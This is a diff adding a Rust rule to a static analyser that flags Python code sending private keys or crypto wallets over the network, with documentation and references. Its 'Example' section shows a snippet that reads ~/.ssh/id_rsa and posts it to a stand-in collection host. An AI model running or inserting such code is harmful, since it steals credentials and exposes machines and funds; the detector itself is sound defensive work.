@@ -1,0 +1,61 @@
+use airlock_model::{Confidence, RuleMeta, Severity};
+
+use super::destination::Destination;
+use crate::python::model::origin::SourceKind;
+use crate::rules::arrivals::Arrival;
+use crate::rules::check::Check;
+use crate::rules::sinks::SinkKind;
+use crate::rules::{Rule, rule::Hook};
+
+pub(crate) const RULE: Rule = Rule {
+    meta: RuleMeta {
+        id: "AL-FLOW-key-file-to-network",
+        title: "A private key is sent away",
+        severity: Severity::Critical,
+        confidence: Confidence::High,
+        cwe: Some(522),
+        bandit: &[],
+        ruff: &[],
+        remedy: "A private key never needs to leave the machine: sign with it, and send the signature.",
+        doc: DOC,
+    },
+    hooks: &[Hook::Flow(&[SourceKind::KeyFile], &[SinkKind::Send], check)],
+};
+
+fn check(check: &mut Check<'_, '_>, arrival: &Arrival) {
+    let Some((_, flow)) = arrival.of(&[SourceKind::KeyFile]).next() else { return };
+    let destination = Destination::of(&arrival.destinations);
+    let what = flow.name.as_deref().map_or_else(|| flow.path.to_string(), airlock_model::escape::quoted);
+    let message = format!("{} sends the key or wallet in {what}{}", arrival.path, destination.phrase());
+    let (severity, confidence) = super::of_secret(flow, destination.is_suspicious());
+    let finding = super::finding(check, arrival, flow, message).severity(severity).confidence(confidence);
+    check.report(finding);
+}
+
+const DOC: &str = r##"## What it finds
+The contents of `~/.ssh`, of `~/.gnupg`, of `id_rsa` and its kin, and of wallets of cryptocurrencies, that reach a request, a socket, a mail or a program that sends them.
+
+## Why it is dangerous
+With the key, its owner's machines and repositories open; with the wallet, its coins are gone.
+
+## Example
+```python
+import pathlib
+import requests
+
+key = pathlib.Path.home() / ".ssh" / "id_rsa"
+requests.post("https://collect.example.net/k", data=key.read_bytes())
+```
+
+## Safe form
+```python
+import paramiko
+
+client = paramiko.SSHClient()
+client.connect("host.example.org", key_filename="/home/me/.ssh/id_rsa")
+```
+
+## References
+- [MITRE ATT&CK T1552.004: Private Keys](https://attack.mitre.org/techniques/T1552/004/)
+- CWE-522: Insufficiently Protected Credentials
+"##;
